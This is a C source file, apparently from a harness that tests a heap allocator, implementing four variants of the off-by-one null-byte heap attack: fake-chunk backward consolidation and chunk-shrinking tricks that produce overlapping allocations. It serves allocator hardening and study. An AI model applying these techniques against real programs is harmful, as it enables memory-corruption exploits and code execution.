/* null_byte.c - one zero byte too many: the next chunk's flags and the low byte of its
 * size are gone. P is clear, so what the attacker has left in his own last word is taken
 * for the size of a free chunk before. */
#include "attack.h"

enum { ROUND = 0xa010 - 8 }; /* a chunk of 0xa010 bytes: the zero byte leaves 0xa000 */

static void zero_byte_behind(char *mem, size_t n) { *((volatile char *)mem + n) = 0; }

/* A fake chunk within a, with links that lead to itself. */
static void backward(void)
{
    char *a = take(ROUND), *b = take(ROUND);
    wall();
    char *fake = a + 64;
    size_t size = chunk(b) - (size_t)fake;
    poke(fake, WORD, size | P);
    poke(fake, 2 * WORD, (size_t)fake);
    poke(fake, 3 * WORD, (size_t)fake);
    poke(a, ROUND - WORD, size);
    zero_byte_behind(a, ROUND);
    poke(b, 0xa000 - WORD, 0x11); /* a chunk seems to follow */
    give(b);
    go_on(ROUND, 20);
}

/* The byte falls into a free chunk: what is carved from it no longer reaches its
 * footer, which the chunk behind still believes. */
static void shrink(void)
{
    char *a = take(ROUND), *b = take(ROUND), *c = take(BINNED);
    wall();
    give(b);
    zero_byte_behind(a, ROUND);
    char *b1 = take(0x5000), *b2 = take(0x3000);
    (void)b2;
    give(b1);
    give(c);
    go_on(0x9000, 20);
}

/* Likewise, with a footer for the shorter size in place. */
static void shrink_with_footer(void)
{
    char *a = take(ROUND), *b = take(ROUND), *c = take(BINNED);
    wall();
    poke(b, 0xa000 - 2 * WORD, 0xa000);
    give(b);
    poke(b, 0xa000 - 2 * WORD, 0xa000);
    zero_byte_behind(a, ROUND);
    char *b1 = take(0x8800), *b2 = take(0x1000);
    (void)b2;
    give(b1);
    give(c);
    go_on(0x9000, 20);
}

/* Small chunks: 0x110 becomes 0x100. */
static void small(void)
{
    char *a = take(0x108), *b = take(0x108);
    wall();
    poke(a, 0x100, 0x90);
    zero_byte_behind(a, 0x108);
    give(b);
    go_on(0x108, 100);
    go_on(0xf8, 100);
}

ATTACK(backward, shrink, shrink_with_footer, small)
